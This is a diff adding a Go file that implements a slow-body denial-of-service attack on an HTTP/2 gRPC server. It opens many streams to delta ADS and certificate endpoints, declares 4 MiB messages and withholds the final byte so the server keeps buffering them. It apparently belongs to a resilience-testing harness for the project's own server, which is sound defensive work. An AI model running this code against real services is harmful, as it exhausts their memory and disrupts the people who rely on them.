@@ -1,0 +1,168 @@
+package attack
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"encoding/binary"
+	"io"
+	"net"
+	"sync"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// The attacks that begin messages and do not end them, so that a server keeps what has come (issue 12, item 8).
+
+// unended is how many calls these attacks have on one connection, of how many bytes their messages say that they are: of as many as
+// gRPC allows, all but the last byte are sent, where the server lets them.
+const unendedCalls, unendedSize = 80, 4<<20 - 8
+
+// unendedStreams and unendedRequests begin requests of delta ADS and for certificates.
+func unendedStreams(ctx context.Context, w *attacker) string { return w.unended(ctx, deltaMethod) }
+func unendedRequests(ctx context.Context, w *attacker) string {
+	return w.unended(ctx, certificateMethod)
+}
+
+func (w *attacker) unended(ctx context.Context, method string) string {
+	return w.raw(ctx, func(raw net.Conn) error {
+		conn := tls.Client(raw, config(w.Certificate))
+		if err := conn.HandshakeContext(ctx); err != nil {
+			return err
+		}
+		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+			return err
+		}
+		u := &unendedCall{Framer: http2.NewFramer(conn, conn), window: map[uint32]int{0: 65535}, changed: make(chan struct{}, 1)}
+		if err := u.WriteSettings(); err != nil {
+			return err
+		}
+		var reading sync.WaitGroup
+		reading.Go(func() { u.read(w); _ = raw.Close() }) // that speaking ends
+		defer reading.Wait()
+		defer raw.Close()
+		var streams []uint32
+		for i := range max(2, unendedCalls*w.Connections/MaxConnections) {
+			streams = append(streams, uint32(2*i+1))
+			if err := u.begin(streams[i], method, w.Token); err != nil {
+				return err
+			}
+			w.count(func(c *Count) { c.Requests++ })
+		}
+		return u.speak(ctx, streams)
+	})
+}
+
+// unendedCall is one connection of HTTP/2.
+type unendedCall struct {
+	*http2.Framer
+	write   sync.Mutex
+	changed chan struct{} // of one: there is more room to send
+
+	mu     sync.Mutex
+	window map[uint32]int // bytes that may be sent; 0: on the connection
+}
+
+// begin begins a call and its message.
+func (u *unendedCall) begin(stream uint32, method, token string) error {
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"},
+		{"authorization", "Bearer " + token}} {
+		if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
+			return err
+		}
+	}
+	u.mu.Lock()
+	u.window[stream] = 65535 - 5
+	u.window[0] -= 5
+	u.mu.Unlock()
+	u.write.Lock()
+	defer u.write.Unlock()
+	if err := u.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
+		return err
+	}
+	return u.WriteData(stream, false, binary.BigEndian.AppendUint32([]byte{0}, unendedSize))
+}
+
+// speak sends of all messages what may be sent but for the last byte of each, until the connection or ctx ends.
+func (u *unendedCall) speak(ctx context.Context, streams []uint32) error {
+	left := map[uint32]int{}
+	for _, s := range streams {
+		left[s] = unendedSize - 1
+	}
+	part := make([]byte, 16<<10)
+	for {
+		sent := false
+		for _, s := range streams {
+			u.mu.Lock()
+			n := max(0, min(len(part), left[s], u.window[s], u.window[0]))
+			u.window[s] -= n
+			u.window[0] -= n
+			u.mu.Unlock()
+			if n == 0 {
+				continue
+			}
+			left[s] -= n
+			u.write.Lock()
+			err := u.WriteData(s, false, part[:n])
+			u.write.Unlock()
+			if err != nil {
+				return err
+			}
+			sent = true
+		}
+		if sent {
+			continue
+		}
+		select {
+		case <-u.changed:
+		case <-ctx.Done():
+			return nil
+		}
+	}
+}
+
+// read notes what the server has room for, until the connection ends.
+func (u *unendedCall) read(w *attacker) {
+	for {
+		f, err := u.ReadFrame()
+		if err != nil {
+			return
+		}
+		stream := f.Header().StreamID
+		switch f := f.(type) {
+		case *http2.WindowUpdateFrame:
+			u.mu.Lock()
+			u.window[stream] += int(f.Increment)
+			u.mu.Unlock()
+			select {
+			case u.changed <- struct{}{}:
+			default:
+			}
+		case *http2.RSTStreamFrame, *http2.HeadersFrame: // it is over
+			u.mu.Lock()
+			delete(u.window, stream)
+			u.mu.Unlock()
+		case *http2.SettingsFrame:
+			if !f.IsAck() {
+				u.write.Lock()
+				err = u.WriteSettingsAck()
+				u.write.Unlock()
+			}
+		case *http2.PingFrame:
+			if !f.IsAck() {
+				u.write.Lock()
+				err = u.WritePing(true, f.Data)
+				u.write.Unlock()
+			}
+		}
+		if err != nil {
+			return
+		}
+		if stream != 0 {
+			w.count(func(c *Count) { c.Answers++ })
+		}
+	}
+}
